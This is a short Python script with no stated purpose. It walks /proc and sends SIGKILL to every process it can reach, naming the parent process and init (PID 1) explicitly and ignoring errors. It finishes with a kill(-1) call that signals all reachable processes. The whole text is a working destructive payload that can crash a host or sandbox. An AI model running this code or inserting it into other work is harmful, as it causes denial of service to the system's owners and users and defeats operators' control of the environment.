import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid(), 1]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
